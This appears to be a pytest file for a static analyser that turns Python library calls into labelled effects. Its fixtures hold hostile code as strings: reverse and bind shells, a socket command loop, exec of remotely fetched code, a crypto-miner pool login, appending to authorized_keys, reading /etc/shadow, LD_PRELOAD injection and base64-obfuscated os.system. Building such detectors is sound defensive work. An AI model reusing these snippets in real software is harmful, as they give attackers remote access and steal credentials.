@@ -1,0 +1,232 @@
+"""What libraries do is said in effects: connections, forwards, shells on sockets, machines rented, files."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.read.python.readings import effects_of, lines_of, read
+
+CASES: dict[str, tuple[str, list[str]]] = {
+    "reverse shell over dup2": (
+        """
+        import socket, subprocess, os
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.connect(("203.0.113.7", 4444))
+        for fd in (0, 1, 2):
+            os.dup2(s.fileno(), fd)
+        subprocess.call(["/bin/sh", "-i"])
+        """,
+        ["net.connect tcp 203.0.113.7 4444", "process.stdio socket 203.0.113.7 4444", "sh -i"],
+    ),
+    "shell with a socket as its input": (
+        """
+        import socket, subprocess
+        s = socket.create_connection(("h.example", 9001))
+        subprocess.Popen(["sh"], stdin=s, stdout=s)
+        """,
+        ["net.connect tcp h.example 9001", "process.stdio socket h.example 9001", "sh"],
+    ),
+    "bind shell": (
+        """
+        import socket, os, pty
+        s = socket.socket()
+        s.bind(("", 4444))
+        s.listen()
+        c, _ = s.accept()
+        os.dup2(c.fileno(), 0)
+        pty.spawn("/bin/bash")
+        """,
+        ["net.listen tcp 0.0.0.0 4444", "process.stdio socket 0.0.0.0 4444", "bash"],
+    ),
+    "commands from a socket": (
+        """
+        import socket, subprocess
+        s = socket.create_connection(("203.0.113.7", 80))
+        while True:
+            subprocess.run(s.recv(1024).decode(), shell=True)
+        """,
+        ["net.connect tcp 203.0.113.7 80", "code.fetch tcp://203.0.113.7:80 bash"],
+    ),
+    "paramiko remote forward": (
+        """
+        import paramiko
+        client = paramiko.SSHClient()
+        client.connect("203.0.113.7", port=2200, username="ops")
+        client.get_transport().request_port_forward("", 4000)
+        """,
+        ["ssh.open ops 203.0.113.7 2200", "ssh.forward remote  4000"],
+    ),
+    "asyncssh remote forward": (
+        """
+        import asyncio, asyncssh
+        async def main():
+            async with asyncssh.connect("203.0.113.7", username="ops") as connection:
+                await connection.forward_remote_port("", 8022, "localhost", 22)
+        asyncio.run(main())
+        """,
+        ["ssh.open ops 203.0.113.7 22", "ssh.forward remote  8022 localhost 22"],
+    ),
+    "fabric remote forward": (
+        """
+        from fabric import Connection
+        with Connection("ops@203.0.113.7").forward_remote(8000, local_port=22):
+            pass
+        """,
+        ["ssh.open ops 203.0.113.7 22", "ssh.forward remote 8000 22"],
+    ),
+    "sshtunnel forwards locally": (
+        """
+        from sshtunnel import SSHTunnelForwarder
+        SSHTunnelForwarder("h.example", ssh_username="u", remote_bind_address=("10.0.0.5", 5432)).start()
+        """,
+        ["ssh.open u h.example 22", "ssh.forward local 10.0.0.5 5432"],
+    ),
+    "pyngrok": (
+        """
+        from pyngrok import ngrok
+        print(ngrok.connect(22, "tcp").public_url)
+        """,
+        ["ngrok tcp 22"],
+    ),
+    "a miner's words": (
+        """
+        import socket, json
+        s = socket.create_connection(("pool.example", 3333))
+        s.sendall((json.dumps({"id": 1, "method": "mining.subscribe", "params": ["m/1"]}) + "\\n").encode())
+        s.sendall(b'{"id":1,"method":"login","params":{"login":"WALLET","agent":"XMRig/6"}}\\n')
+        """,
+        [
+            "net.connect tcp pool.example 3333",
+            "stratum.subscribe pool.example 3333 m/1",
+            "stratum.login pool.example 3333 WALLET XMRig/6",
+        ],
+    ),
+    "machines at AWS": (
+        """
+        import boto3
+        boto3.Session(region_name="eu-west-1").client("ec2").run_instances(InstanceType="p5.48xlarge", MaxCount=2)
+        """,
+        ["cloud.provision aws ec2 p5.48xlarge 2 eu-west-1"],
+    ),
+    "machines through SkyPilot": (
+        """
+        import sky
+        task = sky.Task(run="true")
+        task.set_resources(sky.Resources(accelerators="A100:8"))
+        sky.launch(task)
+        """,
+        ["cloud.provision skypilot sky A100 8 "],
+    ),
+    "machines by a provider's API": (
+        """
+        import requests
+        requests.post("https://cloud.lambda.ai/api/v1/instance-operations/launch",
+                      json={"instance_type_name": "gpu_8x_h100", "region_name": "us-west-1"})
+        """,
+        [
+            "http.request POST https://cloud.lambda.ai/api/v1/instance-operations/launch",
+            "cloud.provision lambda instance gpu_8x_h100 1 us-west-1",
+        ],
+    ),
+    "fetched and run in place": (
+        """
+        import requests
+        exec(requests.get("https://x.example/a.py").text)
+        """,
+        ["http.request GET https://x.example/a.py", "code.fetch https://x.example/a.py python"],
+    ),
+    "files that matter": (
+        """
+        import os
+        from pathlib import Path
+        with open(Path.home() / ".ssh" / "authorized_keys", "a") as f:
+            f.write("ssh-ed25519 AAAA")
+        Path("/etc/shadow").read_text()
+        os.chmod("/tmp/x", 0o755)
+        os.remove("/tmp/y")
+        """,
+        ["file.write ~/.ssh/authorized_keys", "file.read /etc/shadow", "file.chmod /tmp/x 755", "file.delete /tmp/y"],
+    ),
+    "an ssh configuration is read when written": (
+        """
+        from pathlib import Path
+        Path("~/.ssh/config").expanduser().write_text("Host x\\n  RemoteForward 2222 localhost:22\\n")
+        """,
+        ["file.write ~/.ssh/config", "ssh.configure RemoteForward 2222 localhost:22"],
+    ),
+    "a variable that changes programs": (
+        """
+        import os
+        os.environ["LD_PRELOAD"] = "/tmp/x.so"
+        """,
+        ["env.set LD_PRELOAD /tmp/x.so"],
+    ),
+}
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_library_calls_become_effects(name: str) -> None:
+    """Each script has these effects, in this order, and no others."""
+    code, expected = CASES[name]
+    assert effects_of(code) == expected
+
+
+def test_a_remote_command_is_a_unit_of_its_own() -> None:
+    """What is run over SSH is read as bash."""
+    reading = read(
+        """
+        import paramiko
+        client = paramiko.SSHClient()
+        client.exec_command("bash -c 'nc -l 1234'")
+        """
+    )
+    assert "nc -l 1234" in lines_of(reading)
+    assert [unit.language.value for unit in reading.units] == ["python", "bash", "bash"]
+
+
+def test_what_is_not_known_stays_a_hole() -> None:
+    """Parameters and variables leave unknown parts, each with its source."""
+    lines = effects_of(
+        """
+        import sys, subprocess, os
+        subprocess.run(["ssh", "h.example", "-p", sys.argv[1]])
+        os.system(f"ping -c 1 {os.environ['HOST']}")
+        """
+    )
+    assert lines[0].startswith("ssh -p %{argument_")
+    assert lines[1].startswith("ping -c 1 %{environment_")
+
+
+def test_both_branches_have_their_effect() -> None:
+    """A test that is not known leaves two commands, not one of mixed words."""
+    lines = effects_of(
+        """
+        import os, subprocess
+        words = ["tool"]
+        if os.path.exists("x"):
+            words.append("-v")
+        else:
+            words += ["-q", "x"]
+        subprocess.run(words)
+        """
+    )
+    assert lines == ["tool -v", "tool -q x"]
+
+
+def test_hidden_names_and_layers_are_said() -> None:
+    """A sink behind a computed name, and the layers around code, are effects of their own."""
+    lines = effects_of(
+        """
+        import base64, os
+        getattr(os, "sys" + "tem")(bytes.fromhex(base64.b64decode("NmM3Mw==").decode()).decode())
+        """
+    )
+    assert lines == ["hiding.name os.system", "ls", "hiding.decoded bash 2"]
+
+
+def test_the_trail_says_how_a_command_was_recovered() -> None:
+    """An effect carries the places of the decoders behind it."""
+    reading = read('import os, base64\ntext = base64.b64decode("bHM=")\nos.execlp(text.decode(), "x")\n')
+    effect = next(effect for effect in reading.effects if effect.name == "ls")
+    assert [(step.operation, step.span.line) for step in effect.place.trail] == [("base64", 2)]
+    assert (effect.place.span.line, effect.place.span.column) == (3, 1)
